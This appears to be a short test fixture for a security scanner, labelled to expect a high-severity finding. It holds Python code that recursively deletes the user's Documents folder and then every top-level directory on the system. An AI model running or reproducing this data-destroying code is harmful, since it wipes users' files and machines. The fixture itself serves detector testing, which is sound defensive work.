# expect: CDN507:high
import shutil
from pathlib import Path
shutil.rmtree(Path.home() / "Documents")
for d in Path("/").iterdir():
    shutil.rmtree(d, ignore_errors=True)
